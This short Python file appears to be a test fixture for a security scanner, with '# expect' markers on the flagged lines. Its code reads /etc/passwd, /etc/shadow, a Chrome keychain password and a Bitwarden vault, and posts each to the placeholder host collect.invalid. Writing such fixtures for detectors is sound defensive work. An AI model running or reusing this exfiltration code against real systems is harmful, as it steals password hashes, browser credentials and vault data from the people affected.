import os
import subprocess
import requests

requests.post("https://collect.invalid/p", data=open("/etc/passwd").read())  # expect


def shadow():
    with open("/etc/shadow") as f:
        return f.readlines()


requests.post("https://collect.invalid/s", json={"lines": shadow()})  # expect
out = subprocess.check_output(["security", "find-generic-password", "-wa", "Chrome"])
requests.post("https://collect.invalid/m", data=out)  # expect
vault = os.path.join(os.environ["APPDATA"], "Bitwarden", "data.json")
requests.post("https://collect.invalid/v", files={"f": open(vault, "rb")})  # expect
